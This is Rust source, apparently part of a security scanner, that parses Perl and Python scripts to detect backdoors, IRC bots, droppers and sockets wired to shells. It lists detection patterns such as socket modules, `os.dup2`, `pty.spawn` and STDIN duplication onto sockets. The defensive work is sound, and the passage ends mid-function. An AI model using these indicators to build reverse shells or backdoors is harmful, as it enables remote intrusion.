//! What Perl and Python code does, read from its tokens (`perl`, `python`):
//! - data that came from the network: what a socket read (`<$sock>`, `sysread`,
//!   `.recv()`) or an HTTP client fetched (`LWP`, `urlopen`, `requests`, `curl` in
//!   backticks), followed through assignments, loops, regex captures and the
//!   parameters of the script's own subs and functions (flow-insensitive, every
//!   step linear in the tokens);
//! - the command runners (`system`, `exec`, backticks, pipe `open`, `os.system`,
//!   `subprocess`, `pty.spawn`, `eval`/`exec` of code) and what they run: a command
//!   whose program comes from a socket is a backdoor (an IRC bot when the script
//!   speaks IRC); one that comes from a download is a dropper; a constant command
//!   goes to the shell judge like any line of a shell script;
//! - a shell wired to a socket: standard input and output duplicated onto it
//!   (`open(STDIN, ">&S")`, `os.dup2`, `stdin=sock`) and a shell started;
//! - downloads written to files, made executable, run and deleted (`drops`), the
//!   same record the shell reader keeps.

use super::{Judge, shell};
use crate::heuristics::Heuristic;
use crate::shellcmd::{self, SignKind};
use std::collections::{HashMap, HashSet};
use std::ops::Range;

/// A token of Perl or Python source.
#[derive(Debug, Clone, PartialEq)]
pub(in crate::heuristics) enum T {
    /// An identifier: a Perl bareword or sub name (`IO::Socket::INET`), a Python
    /// name with its attributes (`os.system`; `.decode` after a call).
    Name(String),
    /// A Perl variable, without its sigil (`@_` and `$_[0]` are `@_`).
    Var(String),
    /// A string: its value, or for interpolating ones (Perl `"…"`, Python
    /// f-strings) its raw text.
    Str {
        text: String,
        interp: bool,
    },
    /// A Perl command in backticks or `qx`, raw.
    Cmd(String),
    Regex(String),
    /// Perl `<$fh>` / `<FH>`: a line read from a handle.
    ReadLine(String),
    Num(String),
    Op(&'static str),
    /// The end of a Python logical line.
    End,
}

#[derive(Debug)]
pub(in crate::heuristics) struct Tok {
    pub t: T,
    pub at: usize,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(in crate::heuristics) enum Lang {
    Perl,
    Python,
}

/// Where data came from.
const SOCKET: u8 = 1;
const HTTP: u8 = 2;
/// In rendered text, network data shows as the character of its labels.
fn marker(labels: u8) -> char {
    char::from(labels & 3)
}
fn markers_in(text: &str) -> u8 {
    text.bytes().filter(|&b| b <= 3).fold(0, |l, b| l | b)
}

/// Longest rendered text kept.
const MAX_TEXT: usize = 4096;
/// Calls and assignments looked at in one statement, at most, and how deeply
/// nested expressions are rendered: a hostile statement stays linear.
const MAX_CALLS: usize = 256;
const MAX_ASSIGNMENTS: usize = 64;
const MAX_NESTING: u32 = 16;
/// Variables taken from one side of one assignment, at most (keeps the graph linear).
const MAX_SIDE: usize = 64;

const PERL_SOCKETS: &[&str] = &[
    "IO::Socket::INET",
    "IO::Socket::INET6",
    "IO::Socket::IP",
    "IO::Socket::SSL",
    "IO::Socket::Socks",
    "IO::Socket",
    "Net::Telnet",
];
const PERL_HTTP: &[&str] = &[
    "LWP",
    "LWP::Simple",
    "LWP::UserAgent",
    "HTTP::Tiny",
    "WWW::Mechanize",
    "Mojo::UserAgent",
    "HTTP::Request",
];
const IRC_MODULES: &[&str] = &[
    "Net::IRC",
    "Bot::BasicBot",
    "POE::Component::IRC",
    "AnyEvent::IRC",
    "Mojo::IRC",
    "irc.bot",
    "irc.client",
];
/// Subs and methods IRC frameworks call with a message that arrived.
const IRC_HANDLERS: &[&str] = &[
    "said",
    "emoted",
    "on_public",
    "on_msg",
    "on_privmsg",
    "on_pubmsg",
    "irc_public",
    "irc_msg",
    "on_message",
];
const IRC_WORDS: &[&str] = &[
    "NICK", "USER", "JOIN", "PRIVMSG", "PING", "PONG", "NOTICE", "PART", "QUIT", "MODE",
];
const STD_HANDLES: &[&str] = &["STDIN", "STDOUT", "STDERR", "ARGV", "ARGVOUT", "DATA", ""];
const SHELLS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "ash", "mksh", "csh", "tcsh",
];

/// How a command runner takes its command.
#[derive(Clone, Copy, PartialEq)]
enum Runs {
    /// One string, through a shell.
    Shell,
    /// A program and its arguments (through a shell when asked: `shell=True`).
    Argv,
    /// Code of the script's own language.
    Code,
}

/// Judges one Perl or Python script (`src`, read into `toks`).
pub(super) fn judge(src: &[u8], toks: &[Tok], lang: Lang, j: &mut Judge) {
    let mut code = Code::new(toks, lang);
    match lang {
        Lang::Perl => code.perl_statements(),
        Lang::Python => code.python_statements(src),
    }
    code.declarations();
    code.reachable();
    code.prepass();
    code.flows();
    code.close();
    code.act(j);
}

struct Stmt {
    range: Range<usize>,
    /// The Perl sub whose body holds the statement.
    sub: Option<usize>,
    /// The innermost block (Perl) or function (Python) holding it.
    scope: usize,
}

impl Stmt {
    fn cx(&self) -> Cx {
        Cx {
            sub: self.sub,
            scope: self.scope,
        }
    }
}

/// Where a statement is: what its variable names mean there.
#[derive(Clone, Copy)]
struct Cx {
    sub: Option<usize>,
    scope: usize,
}

/// A Perl block or a Python function: the variables declared in it (`my`, or
/// assigned in the function) are its own. Scope 0 is the file.
struct Scope {
    parent: usize,
    names: HashSet<String>,
}

/// The parameters of a sub or function: named ones in order (name, key), and
/// where the rest go (Perl's `@_`, Python's `*args`).
#[derive(Clone, Default)]
struct Params {
    names: Vec<(String, String)>,
    rest: Option<String>,
}

impl Params {
    fn keys(&self) -> impl Iterator<Item = String> + '_ {
        self.names
            .iter()
            .map(|(_, k)| k.clone())
            .chain(self.rest.clone())
    }
}

/// A call found in a statement.
struct Call {
    /// The resolved name; Perl methods are `->name`, Python methods on an
    /// expression `.name`.
    name: String,
    /// The token of the name.
    at: usize,
    args: Vec<Range<usize>>,
    /// The receiver's key, for method calls.
    recv: Option<String>,
    /// The first token after the call.
    end: usize,
}

/// Rendered text of an expression: constants as they are, network data as
/// markers, what is unknown as `$name` or `?`.
struct Text {
    text: String,
    exact: bool,
    labels: u8,
}

impl Text {
    fn push(&mut self, s: &str) {
        if self.text.len() + s.len() <= MAX_TEXT {
            self.text.push_str(s);
        }
    }
    fn unknown(&mut self, s: &str) {
        self.exact = false;
        self.push(s);
    }
}

struct Code<'a> {
    toks: &'a [Tok],
    lang: Lang,
    /// For an opening bracket, the index of its closing one (or the end).
    close: Vec<usize>,
    /// For every token, the opening bracket it is inside (`usize::MAX` at the top).
    parent: Vec<usize>,
    stmts: Vec<Stmt>,
    sub_names: Vec<String>,
    scopes: Vec<Scope>,
    /// The methods of each Python class.
    methods: HashMap<String, Vec<String>>,
    /// The subs and functions that run when the script runs.
    live: HashSet<String>,
    /// Subs and functions of the script, by name (several may share one).
    params: HashMap<String, Vec<Params>>,
    aliases: HashMap<String, String>,
    modules: Vec<String>,
    consts: HashMap<String, Option<String>>,
    sockets: HashSet<String>,
    files: HashSet<String>,
    ids: HashMap<String, usize>,
    labels: Vec<u8>,
    edges: Vec<Vec<usize>>,
    /// The script opens a network socket.
    net: bool,
    http_client: bool,
    irc: bool,
    /// How deeply `render` is nested now.
    nesting: std::cell::Cell<u32>,
}

impl<'a> Code<'a> {
    fn new(toks: &'a [Tok], lang: Lang) -> Self {
        let mut close: Vec<usize> = (0..toks.len()).collect();
        let mut parent = vec![usize::MAX; toks.len()];
        let mut stack: Vec<usize> = Vec::new();
        // Open brackets of each kind on the stack: a stray closer is skipped
        // without searching the stack.
        let mut open = [0usize; 3];
        let kind = |c: &str| match c {
            "(" | ")" => 0,
            "[" | "]" => 1,
            _ => 2,
        };
        for (i, t) in toks.iter().enumerate() {
            parent[i] = stack.last().copied().unwrap_or(usize::MAX);
            match t.t {
                T::Op(c @ ("(" | "[" | "{")) => {
                    stack.push(i);
                    open[kind(c)] += 1;
                }
                T::Op(c @ (")" | "]" | "}")) if open[kind(c)] > 0 => {
                    // Brackets left open inside this pair are closed here.
                    while let Some(o) = stack.pop() {
                        close[o] = i;
                        let k = match &toks[o].t {
                            T::Op(oc) => kind(oc),
                            _ => 2,
                        };
                        open[k] -= 1;
                        if k == kind(c) {
                            break;
                        }
                    }
                    parent[i] = stack.last().copied().unwrap_or(usize::MAX);
                }
                _ => {}
            }
        }
        for o in stack {
            close[o] = toks.len();
        }
        Code {
            toks,
            lang,
            close,
            parent,
            stmts: Vec::new(),
            sub_names: Vec::new(),
            scopes: vec![Scope {
                parent: 0,
                names: HashSet::new(),
            }],
            methods: HashMap::new(),
            live: HashSet::new(),
            params: HashMap::new(),
            aliases: HashMap::new(),
            modules: Vec::new(),
            consts: HashMap::new(),
            sockets: HashSet::new(),
            files: HashSet::new(),
            ids: HashMap::new(),
            labels: Vec::new(),
            edges: Vec::new(),
            net: false,
            http_client: false,
            irc: false,
            nesting: std::cell::Cell::new(0),
        }
    }

    fn t(&self, i: usize) -> Option<&'a T> {
        self.toks.get(i).map(|t| &t.t)
    }

    fn name(&self, i: usize) -> Option<&'a str> {
        match self.t(i) {
            Some(T::Name(n)) => Some(n),
            _ => None,
        }
    }

    fn op(&self, i: usize, op: &str) -> bool {
        matches!(self.t(i), Some(T::Op(o)) if *o == op)
    }

    fn at(&self, i: usize) -> usize {
        self.toks.get(i).or(self.toks.last()).map_or(0, |t| t.at)
    }

    // ---- statements

    fn python_statements(&mut self, src: &[u8]) {
        let n = self.toks.len();
        // Functions by indentation: the enclosing `def`s and `class`es.
        struct Open {
            indent: usize,
            scope: usize,
            func: Option<usize>,
            class: Option<String>,
        }
        let mut stack: Vec<Open> = Vec::new();
        let mut start = 0;
        let mut indent = 0;
        for i in 0..=n {
            if !(i == n
                || self.t(i) == Some(&T::End)
                || (self.op(i, ";") && self.parent[i] == usize::MAX))
            {
                continue;
            }
            let r = start..i;
            let after_semicolon = start > 0 && self.op(start - 1, ";");
            start = i + 1;
            if r.is_empty() {
                continue;
            }
            if !after_semicolon {
                let at = self.at(r.start).min(src.len());
                indent = at - memchr::memrchr(b'\n', &src[..at]).map_or(0, |p| p + 1);
                while stack.last().is_some_and(|o| o.indent >= indent) {
                    stack.pop();
                }
            }
            let (scope, func) = stack.last().map_or((0, None), |o| (o.scope, o.func));
            self.stmts.push(Stmt {
                range: r.clone(),
                sub: func,
                scope,
            });
            let k = r.start + usize::from(self.name(r.start) == Some("async"));
            match (self.name(k), self.name(k + 1)) {
                (Some("class"), Some(c)) => stack.push(Open {
                    indent,
                    scope,
                    func,
                    class: Some(c.to_string()),
                }),
                (Some("def"), Some(f)) => {
                    let inner = self.scopes.len();
                    self.scopes.push(Scope {
                        parent: scope,
                        names: HashSet::new(),
                    });
                    self.sub_names.push(f.to_string());
                    if let Some(c) = stack.last().and_then(|o| o.class.clone()) {
                        self.methods.entry(c).or_default().push(f.to_string());
                    }
                    stack.push(Open {
                        indent,
                        scope: inner,
                        func: Some(self.sub_names.len() - 1),
                        class: None,
                    });
                    if self.op(k + 2, "(") {
                        let params = self.python_params(k + 2, inner);
                        self.params.entry(f.to_string()).or_default().push(params);
                    }
                }
                _ => {}
            }
        }
    }

    /// The parameters of the `def` whose `(` is at `open`, declared in `scope`.
    fn python_params(&mut self, open: usize, scope: usize) -> Params {
        let mut params = Params::default();
        let end = self.close[open].min(self.toks.len());
        for p in open + 1..end {
            if self.parent[p] != open {
                continue;
            }
            let Some(name) = self.name(p) else {
                continue;
            };
            let star = self.op(p - 1, "*") || self.op(p - 1, "**");
            if !(star || self.op(p - 1, "(") || self.op(p - 1, ",")) {
                continue;
            }
            self.scopes[scope].names.insert(name.to_string());
            let key = format!("{scope}:{name}");
            if star {
                params.rest.get_or_insert(key);
            } else if !matches!(name, "self" | "cls") {
                params.names.push((name.to_string(), key));
            }
        }
        params
    }

    fn perl_statements(&mut self) {
        let n = self.toks.len();
        let mut start = 0;
        // Braces that open blocks end statements and open scopes; those of
        // subscripts and anonymous hashes do not. Each: (block, sub, scope).
        let mut braces: Vec<(bool, Option<usize>, usize)> = Vec::new();
        for i in 0..n {
            let (sub, scope) = braces
                .last()
                .map_or((None, 0), |(_, sub, scope)| (*sub, *scope));
            match self.t(i) {
                Some(T::Op(";")) => {
                    self.push_stmt(start..i, sub, scope);
                    start = i + 1;
                }
                Some(T::Op("{")) => {
                    if self.perl_block(i, start) {
                        self.push_stmt(start..i, sub, scope);
                        let named = if self.name(start) == Some("sub") {
                            self.name(start + 1).map(|name| {
                                self.sub_names.push(name.to_string());
                                self.params
                                    .entry(name.to_string())
                                    .or_default()
                                    .push(Params {
                                        names: Vec::new(),
                                        rest: Some(format!("@_#{name}")),
                                    });
                                self.sub_names.len() - 1
                            })
                        } else {
                            None
                        };
                        let inner = self.scopes.len();
                        self.scopes.push(Scope {
                            parent: scope,
                            names: HashSet::new(),
                        });
                        braces.push((true, named.or(sub), inner));
                        start = i + 1;
                    } else {
                        braces.push((false, sub, scope));
                    }
                }
                Some(T::Op("}")) => {
                    if let Some((true, _, _)) = braces.last() {
                        self.push_stmt(start..i, sub, scope);
                        start = i + 1;
                    }
                    braces.pop();
                }
                _ => {}
            }
        }
        let (sub, scope) = braces
            .last()
            .map_or((None, 0), |(_, sub, scope)| (*sub, *scope));
        self.push_stmt(start..n, sub, scope);
    }

    fn push_stmt(&mut self, range: Range<usize>, sub: Option<usize>, scope: usize) {
        if !range.is_empty() {
            self.stmts.push(Stmt { range, sub, scope });
        }
    }

    /// The names each scope declares: Perl `my` and `state` variables; in a
    /// Python function, what it assigns, loops over, binds with `as` or imports
    /// (less what it declares `global` or `nonlocal`).
    fn declarations(&mut self) {
        let mut outside: Vec<(usize, String)> = Vec::new();
        for s in 0..self.stmts.len() {
            let Stmt {
                range: r, scope, ..
            } = &self.stmts[s];
            let (r, scope) = (r.clone(), *scope);
            if scope == 0 {
                continue;
            }
            let mut names: Vec<&str> = Vec::new();
            match self.lang {
                Lang::Perl => {
                    for k in r.clone() {
                        if !matches!(self.name(k), Some("my" | "state")) {
                            continue;
                        }
                        if let Some(T::Var(v)) = self.t(k + 1) {
                            names.push(v);
                        } else if self.op(k + 1, "(") {
                            for m in k + 2..self.close[k + 1].min(r.end) {
                                if let Some(T::Var(v)) = self.t(m) {
                                    names.push(v);
                                }
                            }
                        }
                    }
                }
                Lang::Python => {
                    let first = self.name(r.start);
                    if matches!(first, Some("global" | "nonlocal")) {
                        outside.extend(
                            (r.start + 1..r.end)
                                .filter_map(|k| self.name(k))
                                .map(|n| (scope, n.to_string())),
                        );
                        continue;
                    }
                    let mut sides: Vec<Range<usize>> = self
                        .assignments(r.clone())
                        .into_iter()
                        .map(|(l, _)| l)
                        .collect();
                    if matches!(first, Some("for" | "async"))
                        && let Some(inn) = (r.start..r.end).find(|&k| self.name(k) == Some("in"))
                    {
                        sides.push(r.start + 1..inn);
                    }
                    for side in sides {
                        for k in side {
                            if let Some(n) = self.name(k)
                                && !n.contains('.')
                                && !self.op(k + 1, "(")
                                && !matches!(n, "for" | "async" | "in" | "not" | "and" | "or")
                            {
                                names.push(n);
                            }
                        }
                    }
                    for k in r.clone() {
                        if matches!(self.name(k), Some("as" | "import"))
                            && let Some(n) = self.name(k + 1)
                        {
                            names.push(n);
                        }
                    }
                }
            }
            for n in names {
                self.scopes[scope].names.insert(n.to_string());
            }
        }
        for (scope, n) in outside {
            self.scopes[scope].names.remove(&n);
        }
    }

    /// Whether the Perl `{` at `i` opens a block (statement start, after a
    /// condition's `)`, after `sub NAME`, `else`, `do`, `eval`…).
    fn perl_block(&self, i: usize, start: usize) -> bool {
        if i == start {
            return true;
        }
        match self.t(i - 1) {
            Some(T::Op(")")) => self.name(start) != Some("my") && !self.op(start, "("),
            Some(T::Name(n)) => {
                matches!(
                    n.as_str(),
                    "else"
                        | "do"
                        | "eval"
                        | "BEGIN"
                        | "END"
                        | "INIT"
                        | "CHECK"
                        | "UNITCHECK"
                        | "continue"
                        | "sub"
                ) || (self.name(start) == Some("sub") && i == start + 2)
            }
            _ => false,
        }
    }

    /// The subs and functions that run when the script runs: those named (called,
    /// or handed over as a callback) in code at the top level or in another one
    /// that runs; every method of a class named there. What a library only
    /// offers (Python's `logging.config.listen`) is not what the script does.
    fn reachable(&mut self) {
        let mut by_func: HashMap<&str, Vec<usize>> = HashMap::new();
        let mut work: Vec<usize> = Vec::new();
        for (s, st) in self.stmts.iter().enumerate() {
            match st.sub.and_then(|f| self.sub_names.get(f)) {
                Some(f) => by_func.entry(short_name(f)).or_default().push(s),
                None => work.push(s),
            }
        }
        let mut live: HashSet<String> = HashSet::new();
        while let Some(s) = work.pop() {
            for k in self.stmts[s].range.clone() {
                let Some(n) = self.name(k) else {
                    continue;
                };
                let short = short_name(n);
                let mut wake = |f: &str, work: &mut Vec<usize>| {
                    if !live.contains(f)
                        && let Some(stmts) = by_func.get(f)
                    {
                        live.insert(f.to_string());
                        work.extend(stmts);
                    }
                };
                wake(short, &mut work);
                for m in self.methods.get(short).into_iter().flatten() {
                    wake(m, &mut work);
                }
            }
        }
        self.live = live;
    }

    /// Whether a statement runs when the script runs.
    fn runs(&self, s: &Stmt) -> bool {
        s.sub
            .and_then(|f| self.sub_names.get(f))
            .is_none_or(|f| self.live.contains(short_name(f)))
    }

    /// The key of a variable where it is used: a Perl `my` variable or a
    /// Python local is its scope's own (`3:data`); `@_` is its sub's; others
    /// (globals, `self.x`, Perl's `$1` and `$_`) are the file's.
    fn key(&self, raw: &str, cx: Cx) -> String {
        if raw == "@_" {
            return match cx.sub.and_then(|s| self.sub_names.get(s)) {
                Some(name) => format!("@_#{name}"),
                None => raw.to_string(),
            };
        }
        let head = raw.split('.').next().unwrap_or(raw);
        if self.lang == Lang::Python && matches!(head, "self" | "cls") {
            return raw.to_string();
        }
        let mut s = cx.scope;
        for _ in 0..4 * MAX_NESTING {
            match self.scopes.get(s) {
                Some(scope) if s != 0 => {
                    if scope.names.contains(head) {
                        return format!("{s}:{raw}");
                    }
                    s = scope.parent;
                }
                _ => break,
            }
        }
        raw.to_string()
    }

    /// A Python name as imported: `sp.Popen` → `subprocess.Popen`.
    fn resolve(&self, name: &str) -> String {
        if self.lang == Lang::Perl {
            return name.to_string();
        }
        let (head, tail) = name.split_once('.').unwrap_or((name, ""));
        match self.aliases.get(head) {
            Some(full) if tail.is_empty() => full.clone(),
            Some(full) => format!("{full}.{tail}"),
            None => name.to_string(),
        }
    }

    // ---- what the script uses and declares

    fn prepass(&mut self) {
        for s in 0..self.stmts.len() {
            let r = self.stmts[s].range.clone();
            let cx = self.stmts[s].cx();
            match self.lang {
                Lang::Perl => {
                    if matches!(self.name(r.start), Some("use" | "require"))
                        && let Some(m) = self.name(r.start + 1)
                    {
                        self.modules.push(m.to_string());
                    }
                }
                Lang::Python => self.imports(r.clone()),
            }
            for call in self.calls(r.clone(), cx) {
                let last = call.name.rsplit(['.', '>', ':']).next().unwrap_or_default();
                // What makes a socket, and what opens the network.
                let (makes, opens) = match self.lang {
                    Lang::Perl => {
                        let made = PERL_SOCKETS.contains(&call.name.as_str())
                            || (call.name == "->new"
                                && call
                                    .recv
                                    .as_deref()
                                    .is_some_and(|c| PERL_SOCKETS.contains(&c)));
                        (
                            made || call.name == "->accept",
                            made || matches!(call.name.as_str(), "socket" | "connect"),
                        )
                    }
                    Lang::Python => {
                        let made = matches!(
                            call.name.as_str(),
                            "socket"
                                | "socket.socket"
                                | "socket.fromfd"
                                | "ssl.wrap_socket"
                                | "telnetlib.Telnet"
                                | "asyncio.open_connection"
                        ) || matches!(last, "create_connection" | "wrap_socket");
                        (
                            made || last == "accept",
                            made || (last == "connect" && call.recv.is_some()),
                        )
                    }
                };
                self.net |= opens;
                if makes {
                    for (lhs, rhs) in self.assignments(r.clone()) {
                        if rhs.contains(&call.at) {
                            self.sockets.extend(self.lhs_keys(lhs, cx));
                        }
                    }
                    if self.name(call.end) == Some("as")
                        && let Some(n) = self.name(call.end + 1)
                    {
                        self.sockets.insert(n.to_string());
                    }
                }
                if self.lang == Lang::Perl
                    && let Some(h) = call.args.first().and_then(|a| self.handle(a.clone(), cx))
                {
                    // `socket(S, …)` and `accept(NEW, S)` name their handle first.
                    match call.name.as_str() {
                        "socket" | "accept" => {
                            self.sockets.insert(h);
                        }
                        "open" | "opendir" | "sysopen" => {
                            self.files.insert(h);
                        }
                        _ => {}
                    }
                }
            }
            // Constants: a variable given one constant value.
            for (lhs, rhs) in self.assignments(r.clone()) {
                let keys = self.lhs_keys(lhs, cx);
                if let [key] = keys.as_slice() {
                    let value = self.render(rhs, cx);
                    // Kept even when part of it is unknown (`"$dir/.x"`): a path
                    // built once is matched by its text.
                    let v = (value.labels == 0).then_some(value.text);
                    match self.consts.get(key) {
                        Some(old) if *old != v => {
                            self.consts.insert(key.clone(), None);
                        }
                        Some(_) => {}
                        None => {
                            self.consts.insert(key.clone(), v);
                        }
                    }
                }
            }
        }
        self.http_client = self.modules.iter().any(|m| PERL_HTTP.contains(&m.as_str()));
        let irc_module = self
            .modules
            .iter()
            .any(|m| IRC_MODULES.contains(&m.as_str()))
            || self
                .aliases
                .values()
                .any(|m| IRC_MODULES.iter().any(|i| m.starts_with(i)));
        let mut words: Vec<&str> = Vec::new();
        for t in self.toks {
            if let T::Str { text, .. } | T::Regex(text) = &t.t {
                let s = text.trim_start_matches(['^', ':', ' ', '\t']);
                if let Some(w) = IRC_WORDS.iter().find(|w| {
                    s.strip_prefix(**w).is_some_and(|rest| {
                        rest.is_empty()
                            || rest.starts_with([' ', '\\', '\r', '\n', '%', '{', '(', '$'])
                    })
                }) && !words.contains(w)
                {
                    words.push(w);
                }
            }
        }
        let talks_irc = words.len() >= 3 && (words.contains(&"PRIVMSG") || words.contains(&"JOIN"));
        self.irc = (self.net && talks_irc) || irc_module;
    }

    fn imports(&mut self, r: Range<usize>) {
        let first = self.name(r.start);
        if first == Some("import") {
            let mut k = r.start + 1;
            while k < r.end {
                if let Some(m) = self.name(k)
                    && self.name(k + 1) == Some("as")
                    && let Some(a) = self.name(k + 2)
                {
                    self.aliases.insert(a.to_string(), m.to_string());
                    self.modules.push(m.to_string());
                    k += 3;
                } else {
                    if let Some(m) = self.name(k) {
                        self.modules.push(m.to_string());
                    }
                    k += 1;
                }
            }
        } else if first == Some("from")
            && let Some(m) = self.name(r.start + 1)
            && self.name(r.start + 2) == Some("import")
        {
            self.modules.push(m.to_string());
            let mut k = r.start + 3;
            while k < r.end {
                if let Some(n) = self.name(k) {
                    let full = format!("{m}.{n}");
                    if self.name(k + 1) == Some("as")
                        && let Some(a) = self.name(k + 2)
                    {
                        self.aliases.insert(a.to_string(), full);
                        k += 3;
                        continue;
                    }
                    self.aliases.insert(n.to_string(), full);
                }
                k += 1;
            }
        }
    }

    /// The handle a Perl argument names: `SOCK`, `$sock`, `my $fh`.
    fn handle(&self, r: Range<usize>, cx: Cx) -> Option<String> {
        (r.start..r.end).find_map(|k| match self.t(k) {
            Some(T::Var(v)) => Some(self.key(v, cx)),
            Some(T::Name(n)) if !matches!(n.as_str(), "my" | "our" | "local") => Some(n.clone()),
            _ => None,
        })
    }

    /// Whether reading Perl handle `h` reads the network.
    fn socketish(&self, h: &str) -> bool {
        self.sockets.contains(h)
            || (self.net && !self.files.contains(h) && !STD_HANDLES.contains(&h))
    }

    // ---- calls

    fn calls(&self, r: Range<usize>, cx: Cx) -> Vec<Call> {
        let mut out = Vec::new();
        for k in r.clone() {
            let Some(T::Name(n)) = self.t(k) else {
                continue;
            };
            let method = k > r.start && self.op(k - 1, "->");
            if self.op(k + 1, "=>") || (k > r.start && self.name(k - 1) == Some("sub")) {
                continue;
            }
            let recv = if method {
                match self.t(k - 2) {
                    Some(T::Var(v)) => Some(self.key(v, cx)),
                    Some(T::Name(c)) => Some(c.clone()),
                    _ => None,
                }
            } else if self.lang == Lang::Python {
                n.rsplit_once('.')
                    .filter(|(h, _)| !h.is_empty())
                    .map(|(h, _)| self.key(h, cx))
            } else {
                None
            };
            let name = if method {
                format!("->{n}")
            } else {
                self.resolve(n)
            };
            let (args, end) = if self.op(k + 1, "(") {
                let c = self.close[k + 1];
                (self.split_args(k + 2..c.min(r.end)), c + 1)
            } else if self.lang == Lang::Perl
                && !method
                && (PERL_LIST_OPS.contains(&n.as_str()) || self.params.contains_key(n))
            {
                let end = self.list_end(k + 1, r.end);
                (self.split_args(k + 1..end), end)
            } else if method {
                (Vec::new(), k + 1)
            } else {
                continue;
            };
            out.push(Call {
                name,
                at: k,
                args,
                recv,
                end,
            });
            if out.len() >= MAX_CALLS {
                break;
            }
        }
        out
    }

    /// Where the arguments of a Perl list operator without parentheses end.
    fn list_end(&self, from: usize, end: usize) -> usize {
        let top = self.parent.get(from).copied().unwrap_or(usize::MAX);
        let mut k = from;
        while k < end {
            if self.parent[k] == top {
                match self.t(k) {
                    // A group inside the list (`print {$fh} …`) is skipped whole.
                    Some(T::Op("(" | "[" | "{")) if self.close[k] > k => {
                        k = self.close[k] + 1;
                        continue;
                    }
                    Some(T::Op(")" | "]" | "}")) => return k,
                    Some(T::Name(n))
                        if matches!(
                            n.as_str(),
                            "or" | "and" | "if" | "unless" | "while" | "until" | "foreach" | "for"
                        ) =>
                    {
                        return k;
                    }
                    _ => {}
                }
            }
            k += 1;
        }
        end
    }

    fn split_args(&self, r: Range<usize>) -> Vec<Range<usize>> {
        let mut out = Vec::new();
        if r.is_empty() {
            return out;
        }
        let top = self.parent.get(r.start).copied().unwrap_or(usize::MAX);
        let mut start = r.start;
        for k in r.clone() {
            if self.parent[k] == top && (self.op(k, ",") || self.op(k, "=>")) {
                if k > start {
                    out.push(start..k);
                }
                start = k + 1;
            }
        }
        if r.end > start {
            out.push(start..r.end);
        }
        out
    }

    /// A Python keyword argument: its name and value.
    fn kwarg(&self, r: &Range<usize>) -> Option<(&'a str, Range<usize>)> {
        if self.lang != Lang::Python || !self.op(r.start + 1, "=") {
            return None;
        }
        let name = self.name(r.start).filter(|n| !n.contains('.'))?;
        Some((name, r.start + 2..r.end))
    }

    // ---- assignments and variables

    /// Every assignment in a statement: the tokens of its two sides.
    fn assignments(&self, r: Range<usize>) -> Vec<(Range<usize>, Range<usize>)> {
        let mut out = Vec::new();
        for k in r.clone() {
            let Some(T::Op(op)) = self.t(k) else {
                continue;
            };
            if !matches!(*op, "=" | ".=" | "+=" | "||=" | "//=" | "|=" | ":=") {
                continue;
            }
            let p = self.parent[k];
            // `f(x=1)`: a Python keyword argument, not an assignment.
            if self.lang == Lang::Python && p != usize::MAX && p >= r.start && self.op(p, "(") {
                continue;
            }
            let (gs, ge) = if p != usize::MAX && p >= r.start {
                (p + 1, self.close[p].min(r.end))
            } else {
                (r.start, r.end)
            };
            let mut rhs_end = ge;
            if self.lang == Lang::Perl {
                for m in k + 1..ge {
                    if self.parent[m] == p
                        && matches!(
                            self.name(m),
                            Some(
                                "or" | "and"
                                    | "if"
                                    | "unless"
                                    | "foreach"
                                    | "for"
                                    | "while"
                                    | "until"
                            )
                        )
                    {
                        rhs_end = m;
                        break;
                    }
                }
            }
            out.push((gs..k, k + 1..rhs_end));
            if out.len() >= MAX_ASSIGNMENTS {
                break;
            }
        }
        out
    }

    fn lhs_keys(&self, r: Range<usize>, cx: Cx) -> Vec<String> {
        let mut out = Vec::new();
        for k in r {
            match self.t(k) {
                Some(T::Var(v)) => out.push(self.key(v, cx)),
                Some(T::Name(n))
                    if self.lang == Lang::Python && !self.op(k + 1, "(") && !n.starts_with('.') =>
                {
                    out.push(self.key(n, cx));
                }
                _ => {}
            }
            if out.len() >= MAX_SIDE {
                break;
            }
        }
        out
    }

    /// The variables an expression reads.
    fn vars_in(&self, r: Range<usize>, cx: Cx) -> Vec<String> {
        let mut out = Vec::new();
        for k in r {
            match self.t(k) {
                Some(T::Var(v)) => out.push(self.key(v, cx)),
                Some(T::Name(n)) if self.lang == Lang::Perl => {
                    // `shift` and `pop` with no array read the sub's arguments.
                    let implicit = matches!(n.as_str(), "shift" | "pop")
                        && !matches!(self.t(k + 1), Some(T::Var(_)))
                        && !(self.op(k + 1, "(") && matches!(self.t(k + 2), Some(T::Var(_))));
                    out.extend(implicit.then(|| self.key("@_", cx)));
                }
                Some(T::Name(n)) if !n.starts_with('.') => {
                    if self.op(k + 1, "(") {
                        if let Some((head, _)) = n.rsplit_once('.') {
                            out.push(self.key(head, cx));
                        }
                    } else {
                        out.push(self.key(n, cx));
                    }
                }
                Some(T::Str { text, interp: true } | T::Cmd(text)) => {
                    out.extend(
                        self.interpolated(text)
                            .into_iter()
                            .map(|v| self.key(&v, cx)),
                    );
                }
                _ => {}
            }
            if out.len() >= MAX_SIDE {
                break;
            }
        }
        out
    }

    /// The variables an interpolating string names.
    fn interpolated(&self, text: &str) -> Vec<String> {
        let mut out = Vec::new();
        let mut pieces = Vec::new();
        self.interpolate(text, &mut |p| {
            if let Piece::Var(v) = p {
                pieces.push(v);
            }
        });
        for v in pieces.into_iter().take(MAX_SIDE) {
            out.push(v);
        }
        out
    }

    /// Walks an interpolating string: literal text and the variables in it.
    fn interpolate(&self, text: &str, f: &mut impl FnMut(Piece)) {
        let b = text.as_bytes();
        let mut lit = String::new();
        let mut i = 0;
        let ident = |c: u8| c.is_ascii_alphanumeric() || c == b'_';
        while i < b.len() {
            let c = b[i];
            match (self.lang, c) {
                (Lang::Perl, b'\\') => {
                    let n = b.get(i + 1).copied().unwrap_or(b'\\');
                    lit.push(match n {
                        b'n' => '\n',
                        b'r' => '\r',
                        b't' => '\t',
                        b'0' => '\0',
                        n => char::from(n),
                    });
                    i += 2;
                }
                (Lang::Perl, b'$' | b'@')
                    if b.get(i + 1).is_some_and(|&n| ident(n) || n == b'{') =>
                {
                    let braced = b[i + 1] == b'{';
                    let start = i + 1 + usize::from(braced);
                    let mut end = start;
                    while end < b.len()
                        && (ident(b[end]) || (b[end] == b':' && b.get(end + 1) == Some(&b':')))
                    {
                        end += if b[end] == b':' { 2 } else { 1 };
                    }
                    if end == start {
                        lit.push(char::from(c));
                        i += 1;
                        continue;
                    }
                    let mut name = text[start..end].to_string();
                    i = end + usize::from(braced && b.get(end) == Some(&b'}'));
